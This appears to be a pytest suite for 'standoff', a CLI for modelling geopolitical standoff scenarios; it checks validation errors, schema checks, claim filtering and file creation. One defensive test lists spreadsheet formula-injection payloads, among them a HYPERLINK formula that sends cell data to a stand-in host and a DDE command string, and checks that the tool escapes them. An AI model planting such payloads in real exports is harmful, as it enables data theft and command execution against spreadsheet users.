"""Commands that simulate nothing."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import jsonschema
import pytest
import yaml

from standoff import __version__, catalog, registry
from standoff.json_schema import schema
from standoff.scenario import document, load_scenario

if TYPE_CHECKING:
    from conftest import Command

VALIDATOR = jsonschema.Draft202012Validator(schema())


def test_version_and_help(standoff: Command) -> None:
    assert standoff("--version").stdout == f"standoff {__version__}\n"
    for word in ("run", "answer", "explain", "validate", "list", "show", "schema", "claims", "new"):
        assert word in standoff("--help").stdout


def test_an_unknown_command_is_answered_with_the_nearest(standoff: Command) -> None:
    assert "validate" in standoff("valdate", code=2).stderr


def test_python_dash_m_and_a_closed_pipe_are_quiet() -> None:
    """A reader that goes away ends the program without a word."""
    done = subprocess.run(
        f"{sys.executable} -m standoff schema | head -1", shell=True, capture_output=True, text=True, timeout=120
    )
    assert done.stdout == "{\n"
    assert done.stderr == ""


# ---- validate ------------------------------------------------------------------------------------------------------


def test_lines_end_with_what_they_say(standoff: Command, case: Path) -> None:
    """Tables fill their lines with spaces, which are noise in a file."""
    for words in (("claims", str(case), "--conflicts"), ("show", str(case)), ("list", "mechanisms")):
        lines = standoff(*words).stdout.splitlines()
        assert len(lines) > 3 and not [line for line in lines if line.endswith(" ")]


def test_a_valid_scenario_is_counted(standoff: Command, case: Path) -> None:
    text = standoff("validate", str(case)).stdout
    assert "valid; 2 actors" in text and "1 variant (calm)" in text and "understood: " in text
    counts = json.loads(standoff("validate", str(case), "--json").stdout)["counts"]
    assert counts["claims"] == 3 and counts["questions"] == 2


def test_every_mistake_is_reported_at_once_with_its_line(standoff: Command, case: Path) -> None:
    file = case / "scenario.yaml"
    text = file.read_text()
    lines = text.splitlines()
    wrong = text.replace("mean: 0.2 to 0.4", "meen: 0.2 to 0.4")
    wrong = wrong.replace("commitment: 0.3 to 0.8", "commitment: 0.3 to 0.8 @nobody")
    wrong = wrong.replace("speed: 0.1 to 0.3 1/month", "speed: 0.1 to 0.3 person")
    file.write_text(wrong)
    place = {word: next(i for i, line in enumerate(lines, 1) if word in line) for word in ("mean: 0.2", "commitment:")}
    result = standoff("validate", str(case), code=1)
    assert f"scenario.yaml:{place['mean: 0.2']}  mechanisms.incidents.meen" in result.stderr
    assert "did you mean `mean`?" in result.stderr
    assert f"scenario.yaml:{place['commitment:']}" in result.stderr and "unknown source `nobody`" in result.stderr
    assert "Traceback" not in result.stderr and result.stdout == ""


def test_mistakes_of_the_language_and_of_numbers_are_reported_together(standoff: Command, case: Path) -> None:
    file = case / "scenario.yaml"
    text = file.read_text()
    wrong = text.replace("default_source: assumption", "").replace("questions:", "questions:\n  odd: {txt: x}")
    file.write_text(wrong)
    problems = standoff("validate", str(case), code=1).stderr
    assert "questions.odd.txt" in problems and "mechanisms.incidents.mean" in problems
    assert "has no source" in problems


def test_mistakes_beside_a_bad_unit_are_reported_with_it(standoff: Command, case: Path) -> None:
    """The unit of a stock, of its cap, and of a number of a mechanism with a source that is none."""
    file = case / "scenario.yaml"
    text = file.read_text()
    for right, wrong in {
        "unit: thousand person": "unit: thousand persn\n    cap: 90 persn",
        "speed: 0.1 to 0.3 1/month": "speed: 0.1 to 0.3 1/mnth @assumptoin",
    }.items():
        assert text.count(right) == 1
        text = text.replace(right, wrong)
    file.write_text(text)
    error = standoff("validate", str(case), code=1).stderr
    assert error.startswith("4 problems\n")
    for path, word in {
        "border_troops.unit": "persn",
        "border_troops.cap": "persn",
        "incidents.speed": "mnth",
    }.items():
        assert re.search(rf"{path}\n +unknown [^\n]*{word}", error), path
    assert "did you mean `assumption`?" in error
    file.write_text(text.replace("thousand persn", "thousand person").replace("90 persn", "90 thousand person"))
    assert standoff("validate", str(case), code=1).stderr.startswith("2 problems\n")


def test_mistakes_of_scenario_and_claims_are_reported_together(standoff: Command, case: Path) -> None:
    for name, right, wrong in (("scenario.yaml", "as_of: 2030", "as_off: 2030"), ("claims.jsonl", "person", "persson")):
        (case / name).write_text((case / name).read_text().replace(right, wrong))
    problems = standoff("validate", str(case), code=1).stderr
    assert "as_off" in problems and "claims.jsonl:1" in problems and "claims.jsonl:2" in problems


def test_a_mistake_of_a_variant_names_the_variant(standoff: Command, case: Path) -> None:
    file = case / "scenario.yaml"
    file.write_text(file.read_text().replace("mean: 0.05 to 0.15", "mean: 0.05 to 0.15 @nobody"))
    assert "(in variant calm)" in standoff("validate", str(case), code=1).stderr


def test_an_unknown_case_is_answered_with_the_nearest(standoff: Command) -> None:
    assert "did you mean `korea-1950`?" in standoff("validate", "korea-1951", code=1).stderr


# ---- list, show ----------------------------------------------------------------------------------------------------


def test_list_names_every_entry(standoff: Command) -> None:
    assert [row["case"] for row in json.loads(standoff("list", "--json").stdout)] == list(catalog.slugs())
    for kind in ("mechanisms", "considerations"):
        rows = json.loads(standoff("list", kind, "--json").stdout)
        assert tuple(row["name"] for row in rows) == registry.names(f"standoff.{kind}")
        assert all(row["about"] for row in rows)
    assert "bn " in standoff("list", "units").stdout


@pytest.mark.parametrize("kind", ["mechanisms", "considerations"])
def test_show_of_a_part_gives_its_text_and_every_number(standoff: Command, kind: str) -> None:
    for name, module in registry.modules(f"standoff.{kind}").items():
        page = standoff("show", name).stdout
        assert module.__doc__.splitlines()[0][:60] in page
        sheets = {sheet["kind"]: sheet for sheet in json.loads(standoff("show", name, "--json").stdout)}
        assert {item["name"] for item in sheets[kind]["parameters"]} == set(module.Params.specs())


def test_show_of_a_case(standoff: Command, case: Path) -> None:
    page = standoff("show", str(case)).stdout
    for word in ("Northland", "fighting", "incidents", "withdraw", "Will Northland cross", "calm"):
        assert word in page
    sheet = json.loads(standoff("show", str(case), "--variant", "calm", "--mechanism", "incidents", "--json").stdout)
    assert {item["parameter"]: item["belief"] for item in sheet["parameters"]}["mean"] == "0.05 to 0.15 @assumption"
    assert "did you mean `incidents`?" in standoff("show", str(case), "--mechanism", "incident", code=1).stderr
    page = standoff("show", str(case), "--choice", "NOR").stdout
    rows = [line.split() for line in page.splitlines()]
    assert ["row", "hold", "withdraw", "strike"] in rows and ["word_given", "0", "0", "1"] in rows
    assert "choice `NAR`" in standoff("show", str(case), "--choice", "NAR", code=1).stderr


def test_set_changes_a_number_and_says_what_is_wrong_with_a_change(standoff: Command, case: Path) -> None:
    words = ("show", str(case), "--mechanism", "incidents", "--json", "--set")
    sheet = json.loads(standoff(*words, "incidents.push=0.01 1/month @assumption", "--since", "start").stdout)
    assert {item["parameter"]: item["belief"] for item in sheet["parameters"]}["push"] == "0.01 1/month @assumption"
    sheet = json.loads(standoff(*words, "incidents.push=0.01 1/month @assumption").stdout)
    push = next(item for item in sheet["parameters"] if item["parameter"] == "push")
    assert push["set"].startswith("0.01 1/month @assumption from 20") and push["belief"] != "0.01 1/month @assumption"
    assert "give --set too" in standoff("show", str(case), "--since", "start", code=2).stderr
    assert "is not a change" in standoff(*words, "incidents.push", code=1).stderr
    assert "unknown source" in standoff(*words, "incidents.push=0.01 1/month @nobody", code=1).stderr
    assert "did you mean `incidents.push`?" in standoff(*words, "incident.push=1 @assumption", code=1).stderr


# ---- schema --------------------------------------------------------------------------------------------------------


def test_the_schema_is_one_and_accepts_every_case(standoff: Command) -> None:
    made = json.loads(standoff("schema").stdout)
    jsonschema.Draft202012Validator.check_schema(made)
    for slug in catalog.slugs():
        file = catalog.find(slug)
        own, whole = document.read_file(file).data, load_scenario(file).document.data
        for data in (own,) if own == whole else (own, whole):
            assert [error.message for error in VALIDATOR.iter_errors(data)] == []


@pytest.mark.parametrize(
    ("section", "change"),
    [
        ("title", None),
        ("as_of", 3),
        ("step", "fortnight"),
        ("colour", "red"),
        ("mechanisms", {"incidents": {"use": "mean_revesion"}}),
        ("mechanisms", {"incidents": {"use": "mean_reversion", "stock": "fighting", "mean": 1, "speed": 1}}),
        ("mechanisms", {"mean_reversion": {"stock": "fighting", "mean": 1, "speed": 1, "volatility": 1, "pull": 1}}),
        (
            "mechanisms",
            {
                "incidents": {
                    "use": "mean_reversion",
                    "stock": "fighting",
                    "mean": {"p50": 1, "p6": 2},
                    "speed": 1,
                    "volatility": 1,
                }
            },
        ),
    ],
)
def test_the_schema_refuses_what_validate_refuses(case: Path, section: str, change: object) -> None:
    data = document.read_file(case / "scenario.yaml").data
    assert not list(VALIDATOR.iter_errors(data))
    data[section] = change
    assert list(VALIDATOR.iter_errors(data))


def test_the_schema_reads_one_entry_for_every_holder(case: Path) -> None:
    data = document.read_file(case / "scenario.yaml").data
    whole = {"claims": {"quantity": "troops"}, "scale": 1}
    for entries, right in (
        ({"troops.*": whole, "troops.NOR": {"note": "own"}, "troops.SUR": None}, True),
        ({"troops.NOR": whole}, True),
        ({"troops.NOR": {"note": "own"}}, False),  # nothing stands beside it
        ({"troops.*": {"note": "own"}}, False),
        ({"troops.*": whole, "troops.NOR": {"nte": "own"}}, False),
    ):
        data["observations"] = entries
        assert bool(list(VALIDATOR.iter_errors(data))) is not right, entries


def test_the_schema_reads_a_table_of_codes_and_the_head_of_a_file(case: Path) -> None:
    data = document.read_file(case / "scenario.yaml").data
    choice = data["choices"]["NOR"]
    head = {"language": 1, "default_source": "assumption"}
    for codes, right in (
        ({"options": ["hold", "strike"], "danger": [0.1, "0.6 to 0.9", "@assumption"]}, True),
        ({"options": ["hold", "strike"], "danger": 3}, False),
        ([], False),
    ):
        choice["codes"] = codes
        assert bool(list(VALIDATOR.iter_errors(data | head))) is not right, codes
    del choice["codes"]
    for wrong in ({"language": 2}, {"language": "one"}, {"default_source": 3}):
        assert list(VALIDATOR.iter_errors(data | wrong)) and not list(VALIDATOR.iter_errors(data | head))


def test_the_schema_reads_a_part_under_its_own_name_and_an_incomplete_file(case: Path) -> None:
    data = document.read_file(case / "scenario.yaml").data
    own = {key: value for key, value in data["mechanisms"]["incidents"].items() if key != "use"}
    data["mechanisms"] = {"mean_reversion": own}
    assert not list(VALIDATOR.iter_errors(data))
    over = {"extends": "scenario.yaml", "mechanisms": {"incidents": {"mean": "0.5 @assumption"}}}
    assert not list(VALIDATOR.iter_errors(over))
    assert list(VALIDATOR.iter_errors({**over, "mechanisms": {"attrition": {"use": "attrition", "kil_rate": 1}}}))


# ---- claims --------------------------------------------------------------------------------------------------------


def as_csv(standoff: Command, case: Path) -> list[dict[str, str]]:
    """The rows that `standoff claims` writes as CSV."""
    standoff("claims", str(case), "-o", "claims.csv")
    return list(csv.DictReader(io.StringIO(Path("claims.csv").read_text(encoding="utf-8"))))


def test_claims_are_filtered(standoff: Command, case: Path) -> None:
    ids = [claim["id"] for claim in json.loads(standoff("claims", str(case), "--side", "north", "--json").stdout)]
    assert ids == ["nor-troops-at-border-2030-03-31-north", "nor-no-first-strike-2030-04-10-president"]
    assert "1 claim\n" in standoff("claims", str(case), "--side", "north", "--since", "2030-04-05").stdout
    rows = as_csv(standoff, case)
    assert [row["subject"] for row in rows] == ["NOR"] * 3 and rows[0]["value"] == "40000.0"
    assert "in .csv" in standoff("claims", str(case), "-o", "claims.txt", code=1).stderr


def test_a_table_for_spreadsheets_holds_no_formulas_and_its_numbers_stay(standoff: Command, case: Path) -> None:
    claims = [json.loads(line) for line in (case / "claims.jsonl").read_text().splitlines()]
    notes = [
        '=HYPERLINK("https://x.invalid?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        " \t=1",
        "＝1",
        "-5.5",
        "plain - text",
    ]
    told = [
        {**claims[1], "id": f"{claims[1]['id']}-{n}", "note": note, "value": -3 - n, "comparator": "exact"}
        for n, note in enumerate(notes)
    ]
    (case / "claims.jsonl").write_text("".join(f"{json.dumps(claim)}\n" for claim in [*claims, *told]))
    rows = as_csv(standoff, case)[3:]
    assert [row["note"] for row in rows] == [*(f"'{note}" for note in notes[:6]), *notes[6:]]
    assert [float(row["value"]) for row in rows] == [-3.0 - n for n in range(len(notes))]
    assert rows[0]["speaker"] == "General Staff of Northland"


def test_a_filter_that_no_claim_knows_is_refused(standoff: Command, case: Path) -> None:
    said = standoff("claims", str(case), "--subject", "XXX", "--side", "nort", code=1).stderr
    assert "the subject `XXX`" in said and "allowed: " in said and "did you mean `north`?" in said
    for option in ("--quantity", "--speaker"):
        assert "allowed: " in standoff("claims", str(case), option, "nobody", code=1).stderr


def test_claims_that_contradict_one_another(standoff: Command, case: Path) -> None:
    (found,) = json.loads(standoff("claims", str(case), "--conflicts", "--json").stdout)
    assert found["quantity"] == "troops_at_border" and len(found["claims"]) == 2
    assert "1 conflict" in standoff("claims", str(case), "--conflicts").stdout


def test_a_file_gets_claims_and_not_their_conflicts(standoff: Command, case: Path, tmp_path: Path) -> None:
    file = tmp_path / "claims.csv"
    assert str(file) in standoff("claims", str(case), "-o", str(file)).stdout.replace("\n", "")
    assert "goes with" in standoff("claims", str(case), "--conflicts", "-o", str(file), code=2).stderr
    assert "in .csv" in standoff("claims", str(case), "-o", str(tmp_path / "x.svg"), code=1).stderr
    assert standoff("claims", str(case), "--missing-groups", "-o", str(file), code=2)
    assert "cannot be written" in standoff("claims", str(case), "-o", "/proc/x.csv", code=1).stderr


# ---- new -----------------------------------------------------------------------------------------------------------


def test_new_overwrites_nothing(standoff: Command, case: Path) -> None:
    before = (case / "scenario.yaml").read_bytes()
    assert "exists already" in standoff("new", str(case), code=1).stderr
    assert (case / "scenario.yaml").read_bytes() == before


@pytest.mark.parametrize("slug", catalog.slugs())
def test_new_copies_a_whole_case(standoff: Command, tmp_path: Path, slug: str) -> None:
    standoff("new", "mine", "--from", slug)
    standoff("validate", "mine")
    files = {file.name for file in catalog.find(slug).parent.iterdir() if file.suffix in {".yaml", ".jsonl"}}
    assert {file.name for file in (tmp_path / "mine").iterdir()} == files
    assert yaml.safe_load((tmp_path / "mine" / "scenario.yaml").read_text())["title"]


def test_completion_knows_the_cases() -> None:
    from standoff.cli._options import cases

    assert tuple(cases()) == catalog.slugs() and cases("kor") == ["korea-1950"]


def test_a_scenario_with_thousands_of_mistakes_is_refused_once(
    standoff: Command, case: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each variant repeats them: it is not planned where no more can be listed. 5,000 took two minutes."""
    from standoff import plan as planning

    file = case / "scenario.yaml"
    asked = "".join(f'\n  zz{n}: {{text: "?", event: nosuch{n} > 1, by: 2031-06, resolution: x}}' for n in range(300))
    text = file.read_text()
    file.write_text(text.replace("\nquestions:", f"\nquestions:{asked}", 1))
    calls = []
    real = planning.plan
    monkeypatch.setattr("standoff.plan.validate.plan", lambda *args: (calls.append(1), real(*args))[1])
    told = standoff("validate", str(case), code=1).stderr
    assert "300 problems" in told and "and 100 more" in told and "unknown stock `nosuch0`" in told
    assert len(calls) == 1
